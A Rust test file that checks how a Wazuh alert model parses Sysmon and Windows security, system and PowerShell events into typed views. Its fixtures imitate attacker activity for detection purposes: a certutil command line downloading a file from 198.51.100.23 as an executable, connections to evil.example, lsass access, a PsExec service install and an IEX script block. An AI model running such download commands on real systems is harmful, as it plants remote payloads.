//! Sysmon and the other Windows channels.

use serde_json::{Value, json};
use wazuh_model::views::{Sysmon, SysmonEvent, Windows, WindowsEvent};
use wazuh_model::{Alert, View};

use super::{alert, labelled};

fn windows(provider: &str, channel: &str, id: u32, data: &Value) -> Alert {
    alert(&json!({
        "rule": {"id": "1", "level": 5}, "location": "EventChannel", "decoder": {"name": "windows_eventchannel"},
        "data": {"win": {
            "system": {"providerName": provider, "eventID": id.to_string(), "channel": channel, "computer": "WS-1.corp.example"},
            "eventdata": data
        }}
    }))
}

fn with_sysmon(id: u32, data: &Value, check: impl FnOnce(&Sysmon<'_>)) {
    let alert = windows(
        "Microsoft-Windows-Sysmon",
        "Microsoft-Windows-Sysmon/Operational",
        id,
        data,
    );
    let View::Sysmon(sysmon) = alert.view() else {
        panic!("{id}: {:?}", alert.view())
    };
    assert_eq!(sysmon.id, u64::from(id));
    check(&sysmon);
}

fn with_security(id: u32, data: &Value, check: impl FnOnce(&Windows<'_>)) {
    let alert = windows("Microsoft-Windows-Security-Auditing", "Security", id, data);
    let View::Windows(windows) = alert.view() else {
        panic!("{id}: {:?}", alert.view())
    };
    assert_eq!(windows.id, u64::from(id));
    check(&windows);
}

#[test]
fn sysmon_1_names_the_process_its_parent_and_its_hashes() {
    let alert = labelled("certutil_download");
    let View::Sysmon(sysmon) = alert.view() else { panic!() };
    assert_eq!((sysmon.id, sysmon.rule_name.as_deref()), (1, None));
    assert_eq!(
        sysmon.process.image.as_deref(),
        Some(r"C:\Windows\System32\certutil.exe")
    );
    assert_eq!(sysmon.process.user.as_deref(), Some(r"CORP\m.lee"));
    let SysmonEvent::ProcessCreate {
        command_line,
        hashes,
        parent,
        logon_id,
        integrity_level,
        ..
    } = sysmon.event
    else {
        panic!()
    };
    assert_eq!(
        command_line.as_deref(),
        Some(r"certutil.exe -urlcache -split -f http://198.51.100.23/u.dat C:\ProgramData\u.exe")
    );
    assert_eq!(hashes.md5.as_deref(), Some("4BF5B178DF97DE45E4BFB845F2AC66F4"));
    assert!(hashes.imphash.is_some() && logon_id.is_some() && integrity_level.is_some());
    assert_eq!(
        (parent.image.as_deref(), parent.id),
        (Some(r"C:\Windows\System32\cmd.exe"), Some(3060))
    );
}

#[test]
fn sysmon_views_say_what_a_process_did() {
    let connection = json!({"image": "C:\\\\a.exe", "processId": "7", "user": "CORP\\\\u", "protocol": "tcp", "initiated": "true",
        "sourceIp": "10.0.0.1", "sourcePort": "50000", "destinationIp": "203.0.113.9", "destinationHostname": "evil.example", "destinationPort": "443"});
    with_sysmon(3, &connection, |sysmon| {
        let SysmonEvent::NetworkConnection {
            initiated,
            destination_ip,
            destination_host,
            destination_port,
            ..
        } = &sysmon.event
        else {
            panic!()
        };
        assert_eq!((*initiated, *destination_port), (Some(true), Some(443)));
        assert_eq!(
            (destination_ip.as_deref(), destination_host.as_deref()),
            (Some("203.0.113.9"), Some("evil.example"))
        );
        assert_eq!(
            (sysmon.process.id, sysmon.process.user.as_deref()),
            (Some(7), Some(r"CORP\u"))
        );
    });
    let library = json!({"imageLoaded": "C:\\\\x.dll", "signed": "false", "signatureStatus": "Unavailable", "hashes": "MD5=AA,IMPHASH=00000000000000000000000000000000"});
    with_sysmon(7, &library, |sysmon| {
        let SysmonEvent::ImageLoad {
            image_loaded,
            signed,
            hashes,
            signature,
            ..
        } = &sysmon.event
        else {
            panic!()
        };
        assert_eq!(
            (image_loaded.as_deref(), *signed, signature.as_deref()),
            (Some(r"C:\x.dll"), Some(false), None)
        );
        assert_eq!((hashes.md5.as_deref(), hashes.imphash.as_deref()), (Some("AA"), None));
    });
    let thread = json!({"sourceImage": "C:\\\\a.exe", "sourceProcessId": "1", "targetImage": "C:\\\\lsass.exe", "targetProcessId": "2", "startAddress": "0x7FF", "startModule": "-"});
    with_sysmon(8, &thread, |sysmon| {
        let SysmonEvent::RemoteThread {
            target, start_module, ..
        } = &sysmon.event
        else {
            panic!()
        };
        assert_eq!(
            (sysmon.process.id, target.id, start_module.as_deref()),
            (Some(1), Some(2), None)
        );
        assert_eq!(target.image.as_deref(), Some(r"C:\lsass.exe"));
    });
    let access = json!({"sourceImage": "C:\\\\a.exe", "sourceProcessGUID": "{1}", "targetImage": "C:\\\\lsass.exe", "grantedAccess": "0x1010", "callTrace": "ntdll|UNKNOWN(1)"});
    with_sysmon(10, &access, |sysmon| {
        let SysmonEvent::ProcessAccess {
            granted_access,
            call_trace,
            ..
        } = &sysmon.event
        else {
            panic!()
        };
        assert_eq!(
            (*granted_access, call_trace.as_deref()),
            (Some(0x1010), Some("ntdll|UNKNOWN(1)"))
        );
        assert_eq!(sysmon.process.guid.as_deref(), Some("{1}"));
    });
    for id in [11, 15, 23, 26, 29] {
        let file = json!({"image": "C:\\\\a.exe", "targetFilename": "C:\\\\t\\\\n.exe", "isExecutable": "true", "hashes": "SHA256=BB", "contents": "[ZoneTransfer]\\r\\nZoneId=3"});
        with_sysmon(id, &file, |sysmon| {
            let SysmonEvent::File {
                target_filename,
                hashes,
                contents,
                is_executable,
                ..
            } = &sysmon.event
            else {
                panic!()
            };
            assert_eq!(
                (target_filename.as_deref(), hashes.sha256.as_deref()),
                (Some(r"C:\t\n.exe"), Some("BB"))
            );
            assert_eq!(
                (contents.as_deref(), *is_executable),
                (Some("[ZoneTransfer]\r\nZoneId=3"), Some(true))
            );
        });
    }
    for id in 12..=14 {
        let key = json!({"eventType": "SetValue", "targetObject": "HKLM\\\\Run\\\\x", "details": "DWORD (0x00000001)", "newName": "HKLM\\\\Run\\\\y"});
        with_sysmon(id, &key, |sysmon| {
            let SysmonEvent::Registry {
                event_type,
                target_object,
                details,
                new_name,
            } = &sysmon.event
            else {
                panic!()
            };
            assert_eq!(
                (event_type.as_deref(), target_object.as_deref()),
                (Some("SetValue"), Some(r"HKLM\Run\x"))
            );
            assert_eq!(
                (details.as_deref(), new_name.as_deref()),
                (Some("DWORD (0x00000001)"), Some(r"HKLM\Run\y"))
            );
        });
    }
    with_sysmon(
        18,
        &json!({"eventType": "ConnectPipe", "pipeName": "\\\\msagent_12"}),
        |sysmon| {
            let SysmonEvent::Pipe { name, .. } = &sysmon.event else {
                panic!()
            };
            assert_eq!(name.as_deref(), Some(r"\msagent_12"));
        },
    );
    with_sysmon(
        20,
        &json!({"eventType": "WmiConsumerEvent", "operation": "Created", "name": "n", "destination": "cmd /c x"}),
        |sysmon| {
            let SysmonEvent::Wmi { operation, what, .. } = &sysmon.event else {
                panic!()
            };
            assert_eq!(
                (operation.as_deref(), what.as_deref()),
                (Some("Created"), Some("cmd /c x"))
            );
        },
    );
    with_sysmon(
        22,
        &json!({"queryName": "evil.example", "queryStatus": "9003", "queryResults": "-"}),
        |sysmon| {
            let SysmonEvent::DnsQuery { query, status, results } = &sysmon.event else {
                panic!()
            };
            assert_eq!(
                (query.as_deref(), *status, results.as_deref()),
                (Some("evil.example"), Some(9003), None)
            );
        },
    );
    with_sysmon(
        25,
        &json!({"image": "C:\\\\a.exe", "type": "Image is replaced"}),
        |sysmon| {
            let SysmonEvent::ProcessTampering { kind } = &sysmon.event else {
                panic!()
            };
            assert_eq!(kind.as_deref(), Some("Image is replaced"));
        },
    );
    with_sysmon(5, &json!({"image": "C:\\\\a.exe"}), |sysmon| {
        assert_eq!(sysmon.event, SysmonEvent::Other);
    });
}

#[test]
fn log_ons_say_who_from_where_and_why_not() {
    for id in [4624, 4625, 4648, 4672] {
        let data = json!({"subjectUserName": "WS-1$", "subjectLogonId": "0x3e7", "targetUserName": "j.doe", "targetDomainName": "CORP", "targetUserSid": "S-1-0-0",
            "logonType": "10", "ipAddress": "203.0.113.9", "ipPort": "0", "workstationName": "KALI", "status": "0xc000006d", "subStatus": "0xc0000064",
            "targetServerName": "SRV", "privilegeList": "SeDebugPrivilege\\r\\n\\t\\t\\tSeBackupPrivilege", "elevatedToken": "%%1842"});
        with_security(id, &data, |windows| {
            let WindowsEvent::Logon(logon) = &windows.event else {
                panic!("{id}")
            };
            assert_eq!(
                (
                    logon.subject.logon_id,
                    logon.target.name.as_deref(),
                    logon.target.domain.as_deref()
                ),
                (Some(0x3e7), Some("j.doe"), Some("CORP"))
            );
            assert_eq!(
                (logon.logon_type, logon.ip.as_deref(), logon.port),
                (Some(10), Some("203.0.113.9"), None)
            );
            assert_eq!(
                (logon.status, logon.sub_status, logon.elevated),
                (Some(0xc000_006d), Some(0xc000_0064), Some(true))
            );
            assert_eq!(
                logon.privileges.as_deref(),
                Some("SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege")
            );
            assert_eq!(
                (logon.target_server.as_deref(), logon.workstation.as_deref()),
                (Some("SRV"), Some("KALI"))
            );
        });
    }
}

#[test]
fn a_domain_controller_says_what_it_checked() {
    for id in [4768, 4769, 4771, 4776] {
        let data = json!({"targetUserName": "j.doe", "serviceName": "MSSQLSvc", "ipAddress": "::ffff:10.0.0.9", "ipPort": "50123", "status": "0x18",
            "ticketEncryptionType": "0x17", "ticketOptions": "0x40810000", "preAuthType": "0", "workstation": "WS-9"});
        with_security(id, &data, |windows| {
            let WindowsEvent::Credentials(checked) = &windows.event else {
                panic!("{id}")
            };
            assert_eq!(
                (checked.status, checked.ticket_encryption, checked.pre_auth_type),
                (Some(0x18), Some(0x17), Some(0))
            );
            assert_eq!(
                (checked.ip.as_deref(), checked.port),
                (Some("::ffff:10.0.0.9"), Some(50123))
            );
            assert_eq!(
                (checked.service.as_deref(), checked.workstation.as_deref()),
                (Some("MSSQLSvc"), Some("WS-9"))
            );
        });
    }
}

#[test]
fn security_events_say_what_was_made_or_changed() {
    let process = json!({"subjectUserName": "j.doe", "newProcessName": "C:\\\\a.exe", "newProcessId": "0x1a4", "processId": "0x10", "commandLine": "a -x", "parentProcessName": "C:\\\\b.exe", "tokenElevationType": "%%1937"});
    with_security(4688, &process, |windows| {
        let WindowsEvent::ProcessCreation(process) = &windows.event else {
            panic!()
        };
        assert_eq!((process.id, process.parent_id), (Some(0x1a4), Some(0x10)));
        assert_eq!(
            (
                process.image.as_deref(),
                process.parent_image.as_deref(),
                process.command_line.as_deref()
            ),
            (Some(r"C:\a.exe"), Some(r"C:\b.exe"), Some("a -x"))
        );
    });
    with_security(
        4697,
        &json!({"serviceName": "s", "serviceFileName": "%COMSPEC% /c x", "serviceAccount": "LocalSystem", "serviceStartType": "3"}),
        |windows| {
            let WindowsEvent::Service(service) = &windows.event else {
                panic!()
            };
            assert_eq!(
                (
                    service.command.as_deref(),
                    service.account.as_deref(),
                    service.start_type.as_deref()
                ),
                (Some("%COMSPEC% /c x"), Some("LocalSystem"), Some("3"))
            );
        },
    );
    with_security(
        4698,
        &json!({"subjectUserName": "u", "taskName": "\\\\Updater", "taskContent": "<Task/>"}),
        |windows| {
            let WindowsEvent::ScheduledTask(task) = &windows.event else {
                panic!()
            };
            assert_eq!(
                (task.name.as_deref(), task.content.as_deref()),
                (Some(r"\Updater"), Some("<Task/>"))
            );
        },
    );
    for id in [4720, 4726, 4738] {
        with_security(
            id,
            &json!({"subjectUserName": "admin", "targetUserName": "new", "targetSid": "S-1-5-21-1", "targetDomainName": "CORP"}),
            |windows| {
                let WindowsEvent::AccountChange(change) = &windows.event else {
                    panic!("{id}")
                };
                assert_eq!(
                    (
                        change.subject.name.as_deref(),
                        change.target.name.as_deref(),
                        change.target.sid.as_deref()
                    ),
                    (Some("admin"), Some("new"), Some("S-1-5-21-1"))
                );
                assert_eq!(change.caller_computer, None);
            },
        );
    }
    with_security(
        4740,
        &json!({"targetUserName": "j.doe", "targetDomainName": "WS-FIN-042"}),
        |windows| {
            let WindowsEvent::AccountChange(change) = &windows.event else {
                panic!()
            };
            assert_eq!(
                (change.caller_computer.as_deref(), change.target.domain.as_deref()),
                (Some("WS-FIN-042"), None)
            );
        },
    );
    for id in [4728, 4732, 4756] {
        with_security(
            id,
            &json!({"memberName": "CN=eve,DC=corp", "memberSid": "S-1-5-21-2", "targetUserName": "Domain Admins", "subjectUserName": "adm"}),
            |windows| {
                let WindowsEvent::GroupChange(change) = &windows.event else {
                    panic!("{id}")
                };
                assert_eq!(
                    (change.group.name.as_deref(), change.member.as_deref()),
                    (Some("Domain Admins"), Some("CN=eve,DC=corp"))
                );
            },
        );
    }
    let installed = windows(
        "Service Control Manager",
        "System",
        7045,
        &json!({"serviceName": "PSEXESVC", "imagePath": "%SystemRoot%\\\\PSEXESVC.exe", "accountName": "LocalSystem"}),
    );
    let View::Windows(view) = installed.view() else {
        panic!()
    };
    let WindowsEvent::Service(service) = view.event else {
        panic!()
    };
    assert_eq!(
        (service.name.as_deref(), service.command.as_deref()),
        (Some("PSEXESVC"), Some(r"%SystemRoot%\PSEXESVC.exe"))
    );
    let other = windows("Some Program", "Application", 7045, &json!({"data": "x"}));
    assert!(matches!(
        other.view(),
        View::Windows(Windows {
            event: WindowsEvent::Other,
            ..
        })
    ));
}

#[test]
fn clearing_a_log_is_seen_with_and_without_event_data() {
    let cleared = alert(
        &json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Eventlog", "eventID": "1102", "channel": "Security", "message": "\"The audit log was cleared.\""}}}}),
    );
    let View::Windows(view) = cleared.view() else { panic!() };
    assert!(matches!(view.event, WindowsEvent::LogCleared(_)) && view.message.is_some());
    let system = windows(
        "Microsoft-Windows-Eventlog",
        "System",
        104,
        &json!({"subjectUserName": "wardog", "channel": "System"}),
    );
    let View::Windows(view) = system.view() else { panic!() };
    let WindowsEvent::LogCleared(cleared) = view.event else {
        panic!()
    };
    assert_eq!(
        (cleared.subject.name.as_deref(), cleared.log.as_deref()),
        (Some("wardog"), Some("System"))
    );
    let beside = alert(
        &json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Eventlog", "eventID": "104", "channel": "System", "message": "\"The X log file was cleared.\""},
            "logFileCleared": {"subjectUserName": "eve", "subjectDomainName": "CORP", "channel": "Microsoft-Windows-PowerShell/Operational"}}}}),
    );
    let View::Windows(view) = beside.view() else { panic!() };
    let WindowsEvent::LogCleared(cleared) = view.event else {
        panic!()
    };
    assert_eq!(
        (
            cleared.subject.name.as_deref(),
            cleared.subject.domain.as_deref(),
            cleared.log.as_deref()
        ),
        (
            Some("eve"),
            Some("CORP"),
            Some("Microsoft-Windows-PowerShell/Operational")
        )
    );
    let words = alert(
        &json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Eventlog", "eventID": "104", "message": "\"The Microsoft-Windows-Kernel-IO/Operational log file was cleared.\""}}}}),
    );
    let View::Windows(view) = words.view() else { panic!() };
    let WindowsEvent::LogCleared(cleared) = view.event else {
        panic!()
    };
    assert_eq!(
        (cleared.subject.name, cleared.log.as_deref()),
        (None, Some("Microsoft-Windows-Kernel-IO/Operational"))
    );
}

#[test]
fn powershell_4104_gives_the_script_with_its_lines() {
    let data = json!({"messageNumber": "1", "messageTotal": "2", "scriptBlockText": "IEX \\\"a\\\"\\nb", "scriptBlockId": "f1", "path": "C:\\\\x.ps1"});
    let alert = windows(
        "Microsoft-Windows-PowerShell",
        "Microsoft-Windows-PowerShell/Operational",
        4104,
        &data,
    );
    let View::Windows(view) = alert.view() else { panic!() };
    let WindowsEvent::PowerShell(script) = view.event else {
        panic!()
    };
    assert_eq!(
        (script.script.as_deref(), script.path.as_deref()),
        (Some("IEX \"a\"\nb"), Some(r"C:\x.ps1"))
    );
    assert_eq!((script.part, script.parts), (Some(1), Some(2)));
}
